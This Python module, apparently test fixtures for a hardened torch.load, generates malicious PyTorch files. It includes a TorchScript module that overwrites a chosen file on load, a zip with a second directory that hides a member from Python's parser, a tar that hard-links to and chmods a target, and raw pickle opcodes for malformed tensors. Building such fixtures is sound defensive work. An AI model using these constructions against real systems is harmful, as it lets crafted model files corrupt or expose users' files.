"""Files that attack their reader. Each attack works on torch.load without restrictions."""

import io
import os
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import torch


class _Script(torch.nn.Module):
    """Module that writes a file when its scripted form is loaded."""

    def __init__(self, target: str) -> None:
        super().__init__()
        self.target, self.written = target, torch.zeros(8, dtype=torch.uint8)

    @torch.jit.export
    def __getstate__(self) -> str:
        return self.target

    @torch.jit.export
    def __setstate__(self, state: str) -> None:
        self.target = state
        self.training = False
        self.written = torch.from_file(state, True, 8, dtype=torch.uint8)
        self.written.fill_(65)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


def scripted(target: Path) -> bytes:
    """Return a saved scripted module that writes `target` when it is loaded."""
    content = io.BytesIO()
    torch.jit.save(torch.jit.script(_Script(str(target))), content)
    return content.getvalue()


def with_two_directories(whole: bytes, hidden: str) -> bytes:
    """Return the zip file with a second directory that hides the member `hidden` from Python's zipfile.

    Both readers find a zip64 record of the directory. Python reads the record before the locator; torch
    reads the one to which the locator points, and so sees the hidden member.
    """
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        start, members = archive.start_dir, archive.infolist()
    everything, shown, at = whole[start:-22], b"", start
    for member in members:
        sizes = struct.unpack("<HHH", whole[at + 28 : at + 34])
        end = at + 46 + sum(sizes)
        shown += b"" if member.filename.endswith(hidden) else whole[at:end]
        at = end
    count = len(members)

    def record(entries: int, directory: bytes, offset: int) -> bytes:
        return struct.pack(
            "<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, entries, entries, len(directory), offset
        )

    first = record(count, everything, start)
    second_at = start + len(everything) + len(first)
    return (
        whole[:start]
        + everything
        + first
        + shown
        + record(count - 1, shown, second_at)
        + struct.pack("<4sIQI", b"PK\6\7", 0, start + len(everything), 1)
        + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    )


def tar_with_a_link(target: Path) -> bytes:
    """Return a tar file in torch's oldest format, with a zip file at its end.

    Unpacking it makes a hard link to `target` and changes the mode of `target`.
    """
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w") as archive:
        link = tarfile.TarInfo("storages")
        link.type, link.linkname, link.mode = tarfile.LNKTYPE, os.fspath(target), 0o777
        archive.addfile(link)
    with zipfile.ZipFile(content, "a") as archive:
        archive.writestr("a/data.pkl", pickle.dumps({}))
    return content.getvalue()


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return a zip file with these members."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return content.getvalue()


def saved(value: Any) -> bytes:
    """Return the bytes that torch.save writes."""
    content = io.BytesIO()
    torch.save(value, content)
    return content.getvalue()


def members_of(content: bytes) -> dict[str, bytes]:
    """Return the contents of a zip file's members."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def opcodes(value: Any) -> bytes:
    """Return pickle opcodes that push a plain value and leave the memo unchanged."""
    content = io.BytesIO()
    pickler = pickle.Pickler(content, 2)
    pickler.fast = True
    pickler.dump(value)
    return content.getvalue()[2:-1]


def tensor_opcodes(
    offset: Any,
    size: Any,
    stride: Any,
    kind: str = "Float",
    key: Any = "0",
    count: Any = 4,
    metadata: Any = None,
) -> bytes:
    """Return the pickle opcodes by which torch.save describes a tensor."""
    storage = (
        (b"(" + opcodes("storage") + f"ctorch\n{kind}Storage\n".encode() + opcodes(key) + opcodes("cpu"))
        + opcodes(count)
        + b"tQ"
    )
    return (
        (
            b"ctorch._utils\n_rebuild_tensor_v2\n("
            + storage
            + opcodes(offset)
            + opcodes(size)
            + opcodes(stride)
        )
        + b"\x89N"
        + (b"" if metadata is None else opcodes(metadata))
        + b"tR"
    )


def torch_file(tensors: dict[str, bytes], storage: bytes = bytes(16), **members: bytes) -> bytes:
    """Return a file in torch.save's format with a dictionary of `tensor_opcodes`."""
    items = b"".join(opcodes(name) + tensor + b"s" for name, tensor in tensors.items())
    return zipped(
        {"a/data.pkl": b"\x80\x02}" + items + b".", "a/byteorder": b"little", "a/data/0": storage}
        | {f"a/{name}": data for name, data in members.items()}
    )
